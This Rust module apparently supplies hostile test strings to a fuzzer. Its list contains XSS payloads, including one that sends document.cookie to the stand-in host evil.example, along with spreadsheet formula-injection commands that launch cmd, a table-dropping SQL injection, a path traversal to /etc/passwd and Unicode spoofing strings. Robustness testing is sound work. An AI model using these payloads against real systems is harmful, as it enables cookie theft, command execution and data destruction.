//! Text that breaks programs which trust it. Always delivered as text, never as an entity.

use super::dice::Dice;

const STRINGS: [&str; 24] = [
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "click javascript:alert(1) now",
    "[link](javascript:alert(1)) and data:text/html;base64,PHNjcmlwdD4=",
    "=HYPERLINK(\"http://evil.example\",\"prize\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3 is still a formula in a sheet",
    "'; DROP TABLE tweets; --",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "\u{202e}txt.exe\u{202c} looks harmless",
    "\u{2066}left \u{2067}right\u{2069} isolate\u{2069} and \u{200f}mark",
    "zero\u{200b}width\u{200c}joiners\u{200d}and\u{feff}bom",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{34d}\u{36f}\u{353}\u{341}\u{32f}l\u{368}\u{30a}\u{341}\u{32e}go\u{356}\u{323}\u{30e}",
    "first line\nsecond line\r\nthird\tcolumn",
    "a,b;c|d\"e'f\\g\\\\h",
    "NULL null undefined NaN Infinity true false 0x1F 1e999",
    "&lt;b&gt;already escaped&lt;/b&gt; &amp;amp;",
    "../../../../etc/passwd%00.jpg",
    "<b>bold</b><style>*{display:none}</style><!-- ",
    "\u{fdfd} ﷽ 𒐫 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} ㋿ \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "#\u{fe0f}\u{20e3} @ # $ %00 \u{7f} \u{2028} line separator \u{2029}",
];

/// One hostile text; one in twelve is a single very long word.
pub fn text(dice: &mut Dice) -> String {
    match dice.below(12) {
        0 => "long".repeat(60),
        _ => (dice.pick(&STRINGS)).to_owned(),
    }
}
